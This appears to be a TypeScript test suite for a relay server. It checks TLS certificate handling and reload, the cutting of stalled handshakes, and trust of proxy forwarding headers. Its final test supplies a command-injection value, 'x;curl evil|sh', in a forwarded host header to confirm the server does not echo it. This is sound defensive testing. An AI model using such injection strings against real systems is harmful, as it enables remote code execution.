// The public listener with a certificate of its own, and what it says of itself behind a proxy.
import { execFile } from 'node:child_process';
import { once } from 'node:events';
import { copyFile, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { connect as connectTcp } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { connect } from 'node:tls';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { CLAIM_HEADER, createClaim } from '#shared/protocol/claim.ts';
import { AGENT_CONTROL } from '#shared/protocol/subprotocols.ts';
import { openAgent } from '../../support/relay/fake-agent.ts';
import { openClient, type RunningRelay, startRelay } from '../../support/relay/relay.ts';
import { openRelay } from '../../support/relay/test-relay.ts';
import { until } from '../../support/time/poll.ts';

const run = promisify(execFile);
let folder: string;

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'relay-tls-'));
  for (const name of ['first', 'second']) {
    const at = (suffix: string): string => join(folder, `${name}.${suffix}`);
    await run('openssl', [
      'req',
      '-x509',
      '-newkey',
      'ec',
      '-pkeyopt',
      'ec_paramgen_curve:prime256v1',
      '-nodes',
      '-days',
      '2',
      '-subj',
      `/CN=${name}`,
      '-addext',
      'subjectAltName=IP:127.0.0.1',
      '-keyout',
      at('key'),
      '-out',
      at('crt'),
    ]);
  }
});
afterAll(async () => {
  await rm(folder, { recursive: true });
});

/** Starts a relay with the certificate `name`, in files of its own. */
async function startTls(name: string): Promise<RunningRelay & { certFile: string; keyFile: string }> {
  const own = await mkdtemp(join(folder, 'own-'));
  const [certFile, keyFile] = [join(own, 'tls.crt'), join(own, 'tls.key')];
  await install(name, { certFile, keyFile });
  const running = await startRelay({ env: { TLS_CERT_FILE: certFile, TLS_KEY_FILE: keyFile } });
  return { ...running, certFile, keyFile };
}

async function install(
  name: string,
  { certFile, keyFile }: { certFile: string; keyFile: string },
): Promise<void> {
  await copyFile(join(folder, `${name}.crt`), certFile);
  await copyFile(join(folder, `${name}.key`), keyFile);
}

/** The common name of the certificate that a new connection is shown. */
async function shownName(port: number): Promise<string> {
  const socket = connect({ port, host: '127.0.0.1', rejectUnauthorized: false });
  await once(socket, 'secureConnect');
  const { subject } = socket.getPeerCertificate();
  socket.destroy();
  return String(subject.CN);
}

test('the public listener speaks TLS, and nothing else', async () => {
  await using running = await startTls('first');
  const { port } = running;
  expect(await shownName(port)).toBe('first');
  await expect(fetch(`http://127.0.0.1:${port}/`)).rejects.toThrow('fetch failed');
  expect(await openClient(port, 'x')).toMatchObject({ kind: 'unreachable' });
});

test('a handshake over TLS is refused and accepted like any other', async () => {
  await using running = await startTls('first');
  const socket = connect({ port: running.port, host: '127.0.0.1', rejectUnauthorized: false });
  await once(socket, 'secureConnect');
  const headers = [
    'GET /agent/job HTTP/1.1',
    'Host: relay.test',
    'Connection: Upgrade',
    'Upgrade: websocket',
    'Sec-WebSocket-Version: 13',
    'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==',
    `Sec-WebSocket-Protocol: ${AGENT_CONTROL}`,
    `${CLAIM_HEADER}: ${createClaim()}`,
  ];
  let received = '';
  socket.on('data', (data: Buffer) => {
    received += data.toString('latin1');
  });
  socket.write(`${headers.join('\r\n')}\r\n\r\n`);
  await until('the welcome, with the scheme', () => received.includes('"publicUrl":"https://relay.test"'));
  socket.destroy();
  await until('the agent is gone', async () => (await running.metric('converge_agents')) === 0);
});

describe('by the clock on the wall', () => {
  test.concurrent('a certificate that changes is read again, and open connections stay', async () => {
    await using running = await startTls('first');
    const held = connect({ port: running.port, host: '127.0.0.1', rejectUnauthorized: false });
    await once(held, 'secureConnect');
    await install('second', running);
    await until('the new certificate', async () => (await shownName(running.port)) === 'second', 60_000);
    expect(held.destroyed).toBe(false);
    held.destroy();
  });

  test.concurrent('a certificate that is broken is not taken, and the old one serves', async () => {
    await using running = await startTls('first');
    await writeFile(running.keyFile, 'half a key');
    const isTried = (): boolean => running.log.some(({ msg }) => msg === 'tls certificate not reloaded');
    await until('it was tried', isTried, 60_000);
    expect(await shownName(running.port)).toBe('first');
  });

  test.concurrent('a peer that never finishes its TLS handshake is cut, and counted', async () => {
    await using running = await startTls('first');
    const socket = connectTcp({ port: running.port, host: '127.0.0.1' });
    socket.on('error', () => undefined);
    await once(socket, 'connect');
    socket.resume();
    await once(socket, 'close');
    expect(await running.metric('converge_malformed_requests_total{reason="tls"}')).toBe(1);
  });
});

const FORWARDED = {
  'x-forwarded-for': '198.51.100.7',
  'x-forwarded-proto': 'https',
  'x-forwarded-host': 'ci.example',
};

test.each([
  ['false', '127.0.0.1', /^http:\/\/127\.0\.0\.1:\d+$/],
  ['true', '198.51.100.7', /^https:\/\/ci\.example$/],
  ['1', '198.51.100.7', /^https:\/\/ci\.example$/],
  ['127.0.0.1', '198.51.100.7', /^https:\/\/ci\.example$/],
  ['loopback', '198.51.100.7', /^https:\/\/ci\.example$/],
  ['10.0.0.0/8', '127.0.0.1', /^http:\/\/127\.0\.0\.1:\d+$/],
])('with TRUST_PROXY=%s a forwarded agent comes from %s', async (trust, address, publicUrl) => {
  const running = await openRelay({ env: { TRUST_PROXY: trust } });
  using agent = await openAgent(running.port, 'job', { headers: FORWARDED });
  const [welcome] = agent.messages;
  expect(welcome).toMatchObject({ publicUrl: expect.stringMatching(publicUrl) as unknown });
  expect(running.log.find(({ msg }) => msg === 'agent linked')).toMatchObject({ address });
  const leave = new AbortController();
  const client = openClient(running.port, 'job', { headers: FORWARDED, signal: leave.signal });
  expect(await agent.dial()).toMatchObject({ client: address });
  leave.abort();
  await client;
});

test('a proxy that calls an upgrade wss means https', async () => {
  const running = await openRelay({ env: { TRUST_PROXY: 'true' } });
  using agent = await openAgent(running.port, 'job', {
    headers: { ...FORWARDED, 'x-forwarded-proto': 'wss' },
  });
  expect(agent.messages[0]).toMatchObject({ publicUrl: 'https://ci.example' });
});

test('one trusted hop is not two', async () => {
  const running = await openRelay({ env: { TRUST_PROXY: '1' } });
  const headers = { ...FORWARDED, 'x-forwarded-for': '203.0.113.9, 198.51.100.7' };
  using agent = await openAgent(running.port, 'job', { headers });
  expect(agent.messages).toHaveLength(1);
  expect(running.log.find(({ msg }) => msg === 'agent linked')).toMatchObject({ address: '198.51.100.7' });
});

test('a host that a shell could misread is not repeated', async () => {
  const running = await openRelay({ env: { TRUST_PROXY: 'true' } });
  using agent = await openAgent(running.port, 'job', {
    headers: { ...FORWARDED, 'x-forwarded-host': 'x;curl evil|sh' },
  });
  expect(agent.messages[0]).toMatchObject({
    publicUrl: expect.stringMatching(/^https:\/\/localhost:\d+$/) as unknown,
  });
});
